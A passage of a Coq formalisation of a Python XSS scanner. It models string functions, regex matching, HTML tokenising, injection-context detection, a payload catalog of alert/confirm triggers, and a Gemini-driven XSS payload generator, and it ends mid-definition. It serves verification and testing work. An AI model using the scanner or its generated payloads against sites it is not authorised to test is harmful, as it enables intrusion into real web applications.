(** * XSS-Scanner: the detection pipeline, embedded and verified

    A shallow embedding of [scanner/analyzer.py], [scanner/payloads.py] and
    [scanner/engine.py].  Python text is modelled as a [string] whose
    characters are the code points below 256; Python sets of contexts are
    [gset]s, dictionaries of request parameters are [gmap]s, and the
    stateful parts of the engine (random source, network, log, reporter,
    counters) are threaded through a state-and-exception monad. *)

From stdpp Require Import gmap strings list.
From Stdlib Require Import Ascii String.

Local Open Scope string_scope.

(** ** Python string primitives *)

Module PyStr.

(** The double quote and the newline, as characters and as
    one-character strings. *)
Definition dq_char : ascii := "034"%char.
Definition nl_char : ascii := "010"%char.
Definition DQ : string := String dq_char EmptyString.
Definition NL : string := String nl_char EmptyString.

(** [s.startswith(p)] *)
Fixpoint startswith (p s : string) : bool :=
  match p, s with
  | EmptyString, _ => true
  | String a p', String b s' => Ascii.eqb a b && startswith p' s'
  | String _ _, EmptyString => false
  end.

(** [needle in hay] *)
Fixpoint contains (needle hay : string) : bool :=
  startswith needle hay ||
  match hay with
  | EmptyString => false
  | String _ hay' => contains needle hay'
  end.

(** [c.isspace()] on code points below 256. *)
Definition is_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((9 <=? n) && (n <=? 13)) || ((28 <=? n) && (n <=? 32))
   || (n =? 133) || (n =? 160))%nat.

(** [c.lower()] on code points below 256. *)
Definition lower_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (((65 <=? n) && (n <=? 90))
      || ((192 <=? n) && (n <=? 222) && negb (n =? 215)))%nat
  then ascii_of_nat (n + 32) else c.

(** [s.lower()] *)
Fixpoint lower (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (lower_char c) (lower s')
  end.

(** [c.upper()] and [s.upper()] on code points below 256; a letter whose
    upper case is no single code point below 256 is left as it is. *)
Definition upper_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (((97 <=? n) && (n <=? 122))
      || ((224 <=? n) && (n <=? 254) && negb (n =? 247)))%nat
  then ascii_of_nat (n - 32) else c.

Fixpoint upper (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => String (upper_char c) (upper s')
  end.

Fixpoint lstrip_by (drop : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' => if drop c then lstrip_by drop s' else s
  end.

Fixpoint rstrip_by (drop : ascii -> bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      match rstrip_by drop s' with
      | EmptyString => if drop c then EmptyString else String c EmptyString
      | rest => String c rest
      end
  end.

Definition strip_by (drop : ascii -> bool) (s : string) : string :=
  rstrip_by drop (lstrip_by drop s).

(** [s.strip()] *)
Definition strip : string -> string := strip_by is_space.

Fixpoint mem_char (c : ascii) (chars : string) : bool :=
  match chars with
  | EmptyString => false
  | String d chars' => Ascii.eqb c d || mem_char c chars'
  end.

(** [s.strip(chars)] and [s.rstrip(chars)] *)
Definition strip_chars (chars s : string) : string :=
  strip_by (fun c => mem_char c chars) s.
Definition rstrip_chars (chars s : string) : string :=
  rstrip_by (fun c => mem_char c chars) s.

(** [s.endswith(p)] *)
Definition endswith (p s : string) : bool :=
  startswith (String.rev p) (String.rev s).

(** [s.replace(old, new)] for a one-character [old]. *)
Fixpoint replace_char (old : ascii) (new s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c s' =>
      if Ascii.eqb c old then new +:+ replace_char old new s'
      else String c (replace_char old new s')
  end.

(** [s.split(sep)] for a non-empty [sep]: the pieces between the
    non-overlapping occurrences of [sep], found left to right.  [skip]
    counts the characters of an occurrence still to be passed over and
    [cur] is the piece being read, reversed. *)
Fixpoint split_go (sep s : string) (skip : nat) (cur : string) : list string :=
  match s with
  | EmptyString => [String.rev cur]
  | String c s' =>
      match skip with
      | S k => split_go sep s' k cur
      | O =>
          if startswith sep s
          then String.rev cur :: split_go sep s' (String.length sep - 1) EmptyString
          else split_go sep s' 0 (String c cur)
      end
  end.

Definition split (sep s : string) : list string :=
  split_go sep s 0 EmptyString.

(** [sep.join(parts)] *)
Fixpoint join (sep : string) (parts : list string) : string :=
  match parts with
  | [] => EmptyString
  | [p] => p
  | p :: rest => p +:+ sep +:+ join sep rest
  end.

(** [s[:n]] and [s[n:]] *)
Fixpoint str_take (n : nat) (s : string) : string :=
  match n, s with
  | S n', String c s' => String c (str_take n' s')
  | _, _ => EmptyString
  end.

Fixpoint str_drop (n : nat) (s : string) : string :=
  match n, s with
  | S n', String _ s' => str_drop n' s'
  | _, _ => s
  end.

(** [s.find(needle)]: [None] stands for Python's [-1]. *)
Fixpoint find (needle hay : string) : option nat :=
  if startswith needle hay then Some 0
  else match hay with
       | EmptyString => None
       | String _ hay' => S <$> find needle hay'
       end.

(** [list(dict.fromkeys(l))]: first occurrences, in order. *)
Fixpoint unique (l : list string) : list string :=
  match l with
  | [] => []
  | x :: l' => x :: filter (fun y => y ≠ x) (unique l')
  end.

End PyStr.

(** ** Regular expressions, as Python's [re] runs them

    A backtracking matcher with ordered choice: alternatives are tried
    left to right, a greedy star tries one more iteration before leaving
    the loop and a lazy star the other way round, so the first match found
    is the one [re] reports.  The patterns of the scanner use no
    look-behind and no [^], so a match attempt at a position depends on
    the text from that position on only. *)

Module Re.
Import PyStr.

Inductive regex : Type :=
| Eps                                   (* the empty pattern *)
| Chr (accept : ascii -> bool)          (* one character of a class *)
| Seq (r1 r2 : regex)                   (* r1 r2 *)
| Alt (r1 r2 : regex)                   (* r1|r2 *)
| Star (greedy : bool) (r : regex)      (* r* and r*? *)
| Eos.                                  (* $ without MULTILINE *)

(** [$] matches at the end of the text and just before a final newline. *)
Definition at_end (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c EmptyString => Ascii.eqb c nl_char
  | _ => false
  end.

Definition or_else {A} (x y : option A) : option A :=
  match x with Some _ => x | None => y end.

(** [run r s k]: match [r] at the start of [s] and hand the rest of the
    text to the continuation [k]; [None] makes the matcher backtrack.  An
    iteration of a star has to consume text, so [S (length s)] rounds
    are enough. *)
Fixpoint run {A} (r : regex) (s : string) (k : string -> option A) : option A :=
  match r with
  | Eps => k s
  | Chr accept =>
      match s with
      | String c s' => if accept c then k s' else None
      | EmptyString => None
      end
  | Seq r1 r2 => run r1 s (fun s' => run r2 s' k)
  | Alt r1 r2 => or_else (run r1 s k) (run r2 s k)
  | Star greedy r1 =>
      (fix loop (fuel : nat) (s : string) : option A :=
         let again :=
           match fuel with
           | O => None
           | S fuel' =>
               run r1 s (fun s' =>
                 if (String.length s' <? String.length s)%nat
                 then loop fuel' s' else None)
           end in
         if greedy then or_else again (k s) else or_else (k s) again)
        (S (String.length s)) s
  | Eos => if at_end s then k s else None
  end.

(** [re.match]: the text left after the first match at the start. *)
Definition match_prefix (r : regex) (s : string) : option string :=
  run r s Some.

(** [re.search]: the leftmost match, as the pair of the matched text
    ([match.group()]) and the text after it. *)
Fixpoint search (r : regex) (s : string) : option (string * string) :=
  match match_prefix r s with
  | Some rest => Some (str_take (String.length s - String.length rest) s, rest)
  | None =>
      match s with
      | EmptyString => None
      | String _ s' => search r s'
      end
  end.

Definition found (r : regex) (s : string) : bool :=
  bool_decide (is_Some (search r s)).

(** [re.finditer], for patterns that match non-empty text only: the
    matched texts of the successive non-overlapping matches. *)
Fixpoint finditer_go (fuel : nat) (r : regex) (s : string) : list string :=
  match fuel with
  | O => []
  | S fuel' =>
      match search r s with
      | Some (g, rest) =>
          g :: (if (String.length rest <? String.length s)%nat
                then finditer_go fuel' r rest else [])
      | None => []
      end
  end.

Definition finditer (r : regex) (s : string) : list string :=
  finditer_go (S (String.length s)) r s.

(** *** Pattern syntax *)

(** A literal character; under [re.IGNORECASE] letters match in either
    case. *)
Definition chr (ignorecase : bool) (c : ascii) : regex :=
  Chr (fun d => if ignorecase
                then Ascii.eqb (lower_char d) (lower_char c)
                else Ascii.eqb d c).

(** A literal string; this is also what [re.escape(text)] denotes. *)
Fixpoint lit (ignorecase : bool) (text : string) : regex :=
  match text with
  | EmptyString => Eps
  | String c text' => Seq (chr ignorecase c) (lit ignorecase text')
  end.

(** [.]: any character, the newline only under [re.DOTALL]. *)
Definition dot (dotall : bool) : regex :=
  Chr (fun d => dotall || negb (Ascii.eqb d nl_char)).

(** [[...]] and [[^...]] over a string of characters, [\s], [x?]. *)
Definition one_of (chars : string) : regex := Chr (fun d => mem_char d chars).
Definition none_of (chars : string) : regex :=
  Chr (fun d => negb (mem_char d chars)).
Definition space : regex := Chr is_space.
Definition opt (r : regex) : regex := Alt r Eps.

Fixpoint seqs (rs : list regex) : regex :=
  match rs with
  | [] => Eps
  | [r] => r
  | r :: rs' => Seq r (seqs rs')
  end.

End Re.

(** ** The document parser behind [_detect_text_node]

    [BeautifulSoup(html, 'html.parser')] is third-party code.  The
    analyzer observes one thing of the parsed tree: the first string node
    whose text contains the probe.  [Soup.strings] is a model of the string
    nodes the parser builds, in document order, or [None] where the parser
    rejects the markup and the analyzer falls back on its regular
    expression.  The model covers the tokenisation that decides this:
    text outside tags is a string node and runs of text are merged; start
    and end tags carry no string node, and a start tag does not end inside
    a quoted attribute value; comments, document types, marked sections
    and processing instructions are string nodes of their own (they are
    [NavigableString] subclasses); a marked section with an unknown
    keyword is rejected; a node of ASCII white space only is stored as one
    blank or newline.  Left out: raw-text elements, the decoding of
    character references and the buffering of text around them, the
    lenient forms of comment and section ends, an end-tag opener that no
    letter follows, a marked section that is never closed, and a [<]
    inside a tag name. *)

Module Soup.
Import PyStr.

(** The classes of string node that are not plain text. *)
Inductive kind : Type := Comment | Doctype | Declaration | Instruction.

Inductive tag_state : Type :=
| Plain                  (* in a start tag, outside attribute values *)
| AfterEq                (* in a start tag, after the = of an attribute *)
| Quoted (quote : ascii) (* in a quoted attribute value *)
| EndTag.                (* in an end tag *)

Inductive mode : Type :=
| InText (cur : string)                       (* text read so far, reversed *)
| InTag (st : tag_state)
| InString (k : kind) (closer : string) (cur : string).

Definition is_letter (c : ascii) : bool :=
  let n := nat_of_ascii c in
  (((65 <=? n) && (n <=? 90)) || ((97 <=? n) && (n <=? 122)))%nat.

Definition ascii_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((n =? 32) || (n =? 10) || (n =? 9) || (n =? 12) || (n =? 13))%nat.

Fixpoint all_chars (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => p c && all_chars p s'
  end.

(** The node stored for a run of characters. *)
Definition node (data : string) : string :=
  if all_chars ascii_space data
  then (if contains NL data then NL else " ")
  else data.

(** What the tree builder keeps of a declaration: a document type
    without its keyword, a CDATA section without its opening. *)
Definition node_of (k : kind) (data : string) : string :=
  node match k with
       | Doctype => str_drop 8 data
       | Declaration =>
           if startswith "CDATA[" (upper data) then str_drop 6 data else data
       | _ => data
       end.

(** Text is stored when there is some. *)
Definition flush_text (cur : string) (rest : list string) : list string :=
  match cur with
  | EmptyString => rest
  | _ => node (String.rev cur) :: rest
  end.

Fixpoint name_of (s : string) : string :=
  match s with
  | String c s' => if is_letter c then String c (name_of s') else EmptyString
  | EmptyString => EmptyString
  end.

(** The end of a marked section, by its keyword; [None] for a keyword the
    parser does not know. *)
Definition section_closer (after_bracket : string) : option string :=
  let name := lower (name_of after_bracket) in
  if bool_decide (name ∈ ["temp"; "cdata"; "ignore"; "include"; "rcdata"])
  then Some "]]>"
  else if bool_decide (name ∈ ["if"; "else"; "endif"]) then Some "]>"
  else None.

Definition opens_tag (s : string) : option tag_state :=
  match s with
  | String _ (String c _) =>
      if is_letter c then Some Plain
      else if Ascii.eqb c "/"%char then Some EndTag
      else None
  | _ => None
  end.

(** One character inside a tag: [None] when the tag ends. *)
Definition tag_step (st : tag_state) (c : ascii) : option tag_state :=
  match st with
  | Plain =>
      if Ascii.eqb c ">"%char then None
      else if Ascii.eqb c "="%char then Some AfterEq
      else Some Plain
  | AfterEq =>
      if Ascii.eqb c ">"%char then None
      else if is_space c then Some AfterEq
      else if Ascii.eqb c dq_char || Ascii.eqb c "'"%char then Some (Quoted c)
      else Some Plain
  | Quoted quote => if Ascii.eqb c quote then Some Plain else Some (Quoted quote)
  | EndTag => if Ascii.eqb c ">"%char then None else Some EndTag
  end.

Fixpoint scan (s : string) (skip : nat) (m : mode) : option (list string) :=
  match s with
  | EmptyString =>
      match m with
      | InText cur => Some (flush_text cur [])
      | InTag _ => Some []
      | InString k _ cur => Some [node_of k (String.rev cur)]
      end
  | String c s' =>
      match skip with
      | S skip' => scan s' skip' m
      | O =>
          match m with
          | InText cur =>
              if startswith "<!--" s
              then flush_text cur <$> scan s' 3 (InString Comment "-->" EmptyString)
              else if startswith "<![" s
              then match section_closer (str_drop 3 s) with
                   | Some closer =>
                       flush_text cur
                         <$> scan s' 2 (InString Declaration closer EmptyString)
                   | None => None
                   end
              else if startswith "<!doctype" (lower (str_take 9 s))
              then flush_text cur <$> scan s' 1 (InString Doctype ">" EmptyString)
              else if startswith "<!" s
              then flush_text cur <$> scan s' 1 (InString Comment ">" EmptyString)
              else if startswith "<?" s
              then flush_text cur <$> scan s' 1 (InString Instruction ">" EmptyString)
              else
                match (if Ascii.eqb c "<"%char then opens_tag s else None) with
                | Some st => flush_text cur <$> scan s' 0 (InTag st)
                | None => scan s' 0 (InText (String c cur))
                end
          | InTag st =>
              match tag_step st c with
              | Some st' => scan s' 0 (InTag st')
              | None => scan s' 0 (InText EmptyString)
              end
          | InString k closer cur =>
              if startswith closer s
              then cons (node_of k (String.rev cur))
                     <$> scan s' (String.length closer - 1) (InText EmptyString)
              else scan s' 0 (InString k closer (String c cur))
          end
      end
  end.

(** The string nodes of [BeautifulSoup(html, 'html.parser')]. *)
Definition strings (html : string) : option (list string) :=
  scan html 0 (InText EmptyString).

(** [soup.find(string=re.compile(re.escape(probe)))]: the first string
    node in which the probe occurs. *)
Definition find_string (probe : string) (nodes : list string) : option string :=
  List.find (contains probe) nodes.

End Soup.

(** ** [scanner/analyzer.py] *)

Module Analyzer.
Import PyStr Re.

Inductive InjectionContext : Type :=
| HTML_TEXT
| ATTR_VALUE_DOUBLE_QUOTE
| ATTR_VALUE_SINGLE_QUOTE
| ATTR_VALUE_NO_QUOTE
| ATTR_NAME
| SCRIPT_BLOCK
| SCRIPT_STRING
| STYLE_BLOCK
| HTML_COMMENT
| JSON_VALUE
| URL_PARAM.

(** The [value] of an enumeration member, which is also its [str()]. *)
Definition value (c : InjectionContext) : string :=
  match c with
  | HTML_TEXT => "HTML Text Node"
  | ATTR_VALUE_DOUBLE_QUOTE => "Attribute Value (Double Quote)"
  | ATTR_VALUE_SINGLE_QUOTE => "Attribute Value (Single Quote)"
  | ATTR_VALUE_NO_QUOTE => "Attribute Value (No Quote)"
  | ATTR_NAME => "Attribute Name"
  | SCRIPT_BLOCK => "Inside <script> Tag"
  | SCRIPT_STRING => "JavaScript String"
  | STYLE_BLOCK => "Inside <style> Tag"
  | HTML_COMMENT => "HTML Comment"
  | JSON_VALUE => "JSON Context"
  | URL_PARAM => "URL Parameter"
  end.

#[global] Instance InjectionContext_eq_dec : EqDecision InjectionContext.
Proof. solve_decision. Defined.

Definition index_of (c : InjectionContext) : nat :=
  match c with
  | HTML_TEXT => 0 | ATTR_VALUE_DOUBLE_QUOTE => 1
  | ATTR_VALUE_SINGLE_QUOTE => 2 | ATTR_VALUE_NO_QUOTE => 3
  | ATTR_NAME => 4 | SCRIPT_BLOCK => 5 | SCRIPT_STRING => 6
  | STYLE_BLOCK => 7 | HTML_COMMENT => 8 | JSON_VALUE => 9
  | URL_PARAM => 10
  end.

Definition of_index (n : nat) : InjectionContext :=
  match n with
  | 0 => HTML_TEXT | 1 => ATTR_VALUE_DOUBLE_QUOTE
  | 2 => ATTR_VALUE_SINGLE_QUOTE | 3 => ATTR_VALUE_NO_QUOTE
  | 4 => ATTR_NAME | 5 => SCRIPT_BLOCK | 6 => SCRIPT_STRING
  | 7 => STYLE_BLOCK | 8 => HTML_COMMENT | 9 => JSON_VALUE
  | _ => URL_PARAM
  end.

Definition of_index_of (c : InjectionContext) : of_index (index_of c) = c :=
  match c with
  | HTML_TEXT | ATTR_VALUE_DOUBLE_QUOTE | ATTR_VALUE_SINGLE_QUOTE
  | ATTR_VALUE_NO_QUOTE | ATTR_NAME | SCRIPT_BLOCK | SCRIPT_STRING
  | STYLE_BLOCK | HTML_COMMENT | JSON_VALUE | URL_PARAM => eq_refl
  end.

#[global] Instance InjectionContext_countable : Countable InjectionContext :=
  inj_countable' index_of of_index of_index_of.

(** The analyzer object: [__init__] lower-cases the content type. *)
Record ContextAnalyzer : Type := {
  html : string;
  probe : string;
  content_type : string
}.

Definition init (html probe content_type : string) : ContextAnalyzer :=
  {| html := html; probe := probe; content_type := lower content_type |}.

(** [_detect_json] *)
Definition _detect_json (self : ContextAnalyzer) : gset InjectionContext :=
  if contains "json" (content_type self) then {[ JSON_VALUE ]}
  else
    let stripped := strip (html self) in
    if (startswith "{" stripped || startswith "[" stripped)
       && (endswith "}" stripped || endswith "]" stripped)
    then (if contains (probe self) stripped then {[ JSON_VALUE ]} else ∅)
    else ∅.

(** [<script[^>]*>.*?PROBE.*?</script>] and its [style] twin, compiled
    with [re.DOTALL | re.IGNORECASE]. *)
Definition block_pattern (tag probe : string) : regex :=
  seqs [ lit true ("<" +:+ tag); Star true (none_of ">"); chr true ">"%char;
         Star false (dot true); lit true probe; Star false (dot true);
         lit true ("</" +:+ tag +:+ ">") ].

(** [Q.*?PROBE.*?Q], where [Q] is the class of the two quote characters,
    compiled without flags. *)
Definition js_string_pattern (probe : string) : regex :=
  seqs [ one_of (DQ +:+ "'"); Star false (dot false); lit false probe;
         Star false (dot false); one_of (DQ +:+ "'") ].

(** [_detect_script_contexts] *)
Definition _detect_script_contexts (self : ContextAnalyzer) : gset InjectionContext :=
  let script_pattern := block_pattern "script" (probe self) in
  if found script_pattern (html self)
  then
    {[ SCRIPT_BLOCK ]} ∪
    foldl (fun acc script_content =>
             if found (js_string_pattern (probe self)) script_content
             then acc ∪ {[ SCRIPT_STRING ]} else acc)
          ∅ (finditer script_pattern (html self))
  else ∅.

(** [_detect_style_block] *)
Definition _detect_style_block (self : ContextAnalyzer) : gset InjectionContext :=
  if found (block_pattern "style" (probe self)) (html self)
  then {[ STYLE_BLOCK ]} else ∅.

(** [<!--.*?PROBE.*?-->], compiled with [re.DOTALL]. *)
Definition comment_pattern (probe : string) : regex :=
  seqs [ lit false "<!--"; Star false (dot true); lit false probe;
         Star false (dot true); lit false "-->" ].

(** [_detect_html_comment] *)
Definition _detect_html_comment (self : ContextAnalyzer) : gset InjectionContext :=
  if found (comment_pattern (probe self)) (html self)
  then {[ HTML_COMMENT ]} else ∅.

(** [=Q\s*[^Q]*PROBE[^Q]*Q] for a quote character [Q]. *)
Definition quoted_attr_pattern (quote probe : string) : regex :=
  seqs [ lit false ("=" +:+ quote); Star true space; Star true (none_of quote);
         lit false probe; Star true (none_of quote); lit false quote ].

(** [=\s*PROBE(?:\s|[/>]|$)] *)
Definition unquoted_attr_pattern (probe : string) : regex :=
  seqs [ lit false "="; Star true space; lit false probe;
         Alt space (Alt (one_of "/>") Eos) ].

(** [PROBE\s*=] *)
Definition attr_name_pattern (probe : string) : regex :=
  seqs [ lit false probe; Star true space; lit false "=" ].

(** [_detect_attribute_contexts] *)
Definition _detect_attribute_contexts (self : ContextAnalyzer) : gset InjectionContext :=
  (if found (quoted_attr_pattern DQ (probe self)) (html self)
   then {[ ATTR_VALUE_DOUBLE_QUOTE ]} else ∅) ∪
  (if found (quoted_attr_pattern "'" (probe self)) (html self)
   then {[ ATTR_VALUE_SINGLE_QUOTE ]} else ∅) ∪
  (if found (unquoted_attr_pattern (probe self)) (html self)
   then {[ ATTR_VALUE_NO_QUOTE ]} else ∅) ∪
  (if found (attr_name_pattern (probe self)) (html self)
   then {[ ATTR_NAME ]} else ∅).

(** [>[^<]*PROBE[^<]*<], the fallback of the text-node detector. *)
Definition text_pattern (probe : string) : regex :=
  seqs [ lit false ">"; Star true (none_of "<"); lit false probe;
         Star true (none_of "<"); lit false "<" ].

(** [_detect_text_node]: the parsed tree when the parser accepts the
    document, the regular expression when it raises.  A string node is
    never empty, so the node found is always truthy. *)
Definition _detect_text_node (self : ContextAnalyzer) : gset InjectionContext :=
  match Soup.strings (html self) with
  | Some nodes =>
      match Soup.find_string (probe self) nodes with
      | Some _ => {[ HTML_TEXT ]}
      | None => ∅
      end
  | None =>
      if found (text_pattern (probe self)) (html self)
      then {[ HTML_TEXT ]} else ∅
  end.

(** [ATTR\s*=\s*Q?V*PROBE V*Q?], compiled with [re.IGNORECASE]: [Q] is
    the class of the two quote characters and [V] the class of the
    characters other than the quotes, [>] and white space. *)
Definition url_attr_pattern (attr probe : string) : regex :=
  let inside := Chr (fun d => negb (mem_char d (DQ +:+ "'>")) && negb (is_space d)) in
  seqs [ lit true attr; Star true space; chr true "="%char; Star true space;
         opt (one_of (DQ +:+ "'")); Star true inside; lit true probe;
         Star true inside; opt (one_of (DQ +:+ "'")) ].

Definition url_attrs : list string := ["href"; "src"; "action"; "data"].

(** [_detect_url_param]: the loop stops at the first attribute that
    matches. *)
Definition _detect_url_param (self : ContextAnalyzer) : gset InjectionContext :=
  if existsb (fun attr => found (url_attr_pattern attr (probe self)) (html self))
             url_attrs
  then {[ URL_PARAM ]} else ∅.

(** [detect_all]: the set built by the seven [contexts.update] calls.  The
    method returns [list(contexts)], an enumeration of this set in an
    order Python does not specify. *)
Definition detect_all (self : ContextAnalyzer) : gset InjectionContext :=
  if negb (contains (probe self) (html self)) then ∅
  else
    let contexts : gset InjectionContext := ∅ in
    let contexts := contexts ∪ _detect_json self in
    let contexts := contexts ∪ _detect_script_contexts self in
    let contexts := contexts ∪ _detect_style_block self in
    let contexts := contexts ∪ _detect_html_comment self in
    let contexts := contexts ∪ _detect_attribute_contexts self in
    let contexts := contexts ∪ _detect_text_node self in
    let contexts := contexts ∪ _detect_url_param self in
    contexts.

(** The classifier as the engine calls it. *)
Definition classify (body probe content_type : string) : gset InjectionContext :=
  detect_all (init body probe content_type).

(** The seven detectors in the order of the source, and the set obtained
    by running a list of detectors one after the other. *)
Definition detectors : list (ContextAnalyzer -> gset InjectionContext) :=
  [ _detect_json; _detect_script_contexts; _detect_style_block;
    _detect_html_comment; _detect_attribute_contexts; _detect_text_node;
    _detect_url_param ].

Definition run_detectors (ds : list (ContextAnalyzer -> gset InjectionContext))
    (self : ContextAnalyzer) : gset InjectionContext :=
  foldl (fun contexts d => contexts ∪ d self) ∅ ds.

(** [detect_all] with the detectors run in another order. *)
Definition detect_all_in_order (ds : list (ContextAnalyzer -> gset InjectionContext))
    (self : ContextAnalyzer) : gset InjectionContext :=
  if negb (contains (probe self) (html self)) then ∅ else run_detectors ds self.

End Analyzer.

(** ** The run-time state of a scan

    What the engine reads and writes while it runs: the process-wide
    random source, the requests sent so far, the lines logged, the
    engine's finding counter and the findings handed to the reporter.
    Python exceptions are the [Raise] results of the monad. *)

Module Runtime.

Inductive exn : Type :=
| Timeout                             (* requests.exceptions.Timeout *)
| RequestException (msg : string)     (* any other requests exception *)
| TypeError (msg : string)
| IndexError (msg : string)
| OtherException (msg : string).      (* an exception of another class *)

Inductive result (A : Type) : Type :=
| Ok (a : A)
| Raise (e : exn).
Arguments Ok {A} a.
Arguments Raise {A} e.

Inductive Verb : Type := GET | POST.

Record Request : Type := {
  verb : Verb;
  target : string;
  params : gmap string string
}.

(** What the scanner reads of a [requests.Response]. *)
Record Response : Type := {
  status_code : nat;
  text : string;
  url : string;
  header_content_type : option string
}.

(** [bool(response)] is [response.ok]: false for the 4xx and 5xx codes. *)
Definition ok (r : Response) : bool :=
  negb ((400 <=? status_code r)%nat && (status_code r <? 600)%nat).

Inductive LogLine : Type :=
| TestingParameter (param : string)
| InjectingProbe
| NotReflected
| ReflectedIn (n : nat)
| ContextName (name : string)
| AIAnalyzing
| TestingPayloads (total traditional ai : nat)
| PrintFinding (param context payload : string)
| ExploitUrl (url : string)
| NoWorkingPayloads
| TimeoutLine
| RequestFailedLine (msg : string).

Record Finding : Type := {
  f_param : string;
  f_payload : string;
  f_context : string;
  f_url : string
}.

Record World : Type := {
  rng : nat -> nat;
  sent : list Request;
  log : list LogLine;
  findings_count : nat;
  reporter_findings : list Finding
}.

Definition M (A : Type) : Type := World -> result A * World.

Definition ret {A} (a : A) : M A := fun w => (Ok a, w).

Definition bind {A B} (m : M A) (f : A -> M B) : M B :=
  fun w =>
    match m w with
    | (Ok a, w') => f a w'
    | (Raise e, w') => (Raise e, w')
    end.

Definition raise {A} (e : exn) : M A := fun w => (Raise e, w).

#[global] Instance M_ret : MRet M := @ret.
#[global] Instance M_bind : MBind M := fun A B f m => bind m f.

(** The next number of the random source. *)
Definition draw : M nat :=
  fun w =>
    (Ok (rng w 0),
     {| rng := fun i => rng w (S i); sent := sent w; log := log w;
        findings_count := findings_count w;
        reporter_findings := reporter_findings w |}).

(** An index below [n], as [floor(random() * n)] and [_randbelow(n)] give. *)
Definition randbelow (n : nat) : M nat :=
  r ← draw; ret (r mod n).

(** [random.choice(seq)] *)
Definition choice {A} (seq : list A) : M A :=
  match seq with
  | [] => raise (IndexError "Cannot choose from an empty sequence")
  | _ =>
      i ← randbelow (List.length seq);
      match seq !! i with
      | Some x => ret x
      | None => raise (IndexError "list index out of range")
      end
  end.

(** [random.choices(population, k=k)] *)
Fixpoint choices {A} (population : list A) (k : nat) : M (list A) :=
  match k with
  | O => ret []
  | S k' =>
      i ← randbelow (List.length population);
      match population !! i with
      | Some x => rest ← choices population k'; ret (x :: rest)
      | None => raise (IndexError "list index out of range")
      end
  end.

(** [self._log(...)] and the direct prints. *)
Definition say (line : LogLine) : M unit :=
  fun w =>
    (Ok tt,
     {| rng := rng w; sent := sent w; log := log w ++ [line];
        findings_count := findings_count w;
        reporter_findings := reporter_findings w |}).

Definition when (b : bool) (m : M unit) : M unit :=
  if b then m else ret tt.

End Runtime.


(** ** [scanner/payloads.py] *)

Module Payloads.
Import PyStr Analyzer Runtime.

(** The Python values the catalog is handed where the annotations promise
    an [InjectionContext] or a [str]. *)
Inductive PyVal : Type :=
| VStr (s : string)
| VCtx (c : InjectionContext)
| VNone.

(** [str(v)], as an f-string formats [v]. *)
Definition str_of (v : PyVal) : string :=
  match v with
  | VStr s => s
  | VCtx c => value c
  | VNone => "None"
  end.

(** [v.value]: [None] stands for the [AttributeError] of a value that is
    no enumeration member. *)
Definition value_of (v : PyVal) : option string :=
  match v with
  | VCtx c => Some (value c)
  | _ => None
  end.

(** What varies in the prompt sent to the model: the three interpolated
    texts.  The rest of the prompt is constant. *)
Record Prompt : Type := {
  prompt_param : string;
  prompt_context : string;
  prompt_snippet : string
}.

(** The class attributes.  A model answers a prompt with a text; [None]
    stands for a call that raises or an answer without text. *)
Record PayloadGenerator : Type := {
  gemini_model : option (Prompt -> option string);
  gemini_enabled : bool
}.

Definition JS_TRIGGERS : list string :=
  [ "alert(1)"; "alert(document.domain)"; "alert`1`"; "confirm(1)";
    "prompt(1)"; "print()" ].

(** What [initialize_gemini] meets outside the class: whether the
    library could be imported, the environment variable, and the calls
    [genai.configure] and [genai.GenerativeModel] for a key, which give
    a model or raise ([None]). *)
Record GeminiLibrary : Type := {
  GEMINI_AVAILABLE : bool;
  GEMINI_API_KEY : option string;
  configure_model : string -> option (Prompt -> option string)
}.

(** [api_key or os.getenv('GEMINI_API_KEY')] *)
Definition key_or_env (api_key env : option string) : option string :=
  match api_key with
  | Some (String _ _) => api_key
  | _ => env
  end.

(** [initialize_gemini]: the value returned and the class attributes
    after the call. *)
Definition initialize_gemini (genai : GeminiLibrary) (cls : PayloadGenerator)
    (api_key : option string) : bool * PayloadGenerator :=
  if negb (GEMINI_AVAILABLE genai) then (false, cls)
  else
    match key_or_env api_key (GEMINI_API_KEY genai) with
    | None | Some EmptyString => (false, cls)
    | Some key =>
        match configure_model genai key with
        | Some model =>
            (true, {| gemini_model := Some model; gemini_enabled := true |})
        | None =>
            (false, {| gemini_model := gemini_model cls; gemini_enabled := false |})
        end
    end.

(** The class as the module defines it. *)
Definition PayloadGenerator_initial : PayloadGenerator :=
  {| gemini_model := None; gemini_enabled := false |}.

(** [get_trigger] *)
Definition get_trigger : M string := choice JS_TRIGGERS.

(** The lines of a model answer that are kept as payloads. *)
Definition skipped_prefixes : list string :=
  ["#"; "//"; "/*"; "-"; "*"; "1."; "2."; "3."; "4."; "5."].

Definition skipped_words : list string :=
  ["explanation"; "note:"; "example:"; "payload:"].

Definition keep_line (line : string) : option string :=
  let line := strip line in
  if (String.length line <? 5)%nat then None
  else if existsb (fun p => startswith p line) skipped_prefixes then None
  else if existsb (fun word => contains word (lower line)) skipped_words then None
  else Some (strip_chars "'" (strip_chars DQ (strip_chars "`" line))).

Definition unfence (raw_text : string) : string :=
  if contains "```" raw_text then
    match split "```" raw_text with
    | _ :: inner :: _ =>
        if startswith "html" inner || startswith "javascript" inner
        then join NL (tail (split NL inner))
        else inner
    | _ => raw_text
    end
  else raw_text.

Definition extract_payloads (response_text : string) : list string :=
  let raw_text := unfence (strip response_text) in
  let payloads := omap keep_line (split NL raw_text) in
  take 5 (unique payloads).

(** [generate_ai_payloads]: every exception of the [try] block ends in the
    empty list. *)
Definition generate_ai_payloads (cls : PayloadGenerator)
    (param_name context : PyVal) (html_snippet response_snippet : string)
    : list string :=
  if negb (gemini_enabled cls) then []
  else
    match gemini_model cls with
    | None => []
    | Some model =>
        match value_of context with
        | None => []
        | Some context_value =>
            let prompt :=
              {| prompt_param := str_of param_name;
                 prompt_context := context_value;
                 prompt_snippet :=
                   match html_snippet with
                   | EmptyString => "Not available"
                   | _ => str_take 300 html_snippet
                   end |} in
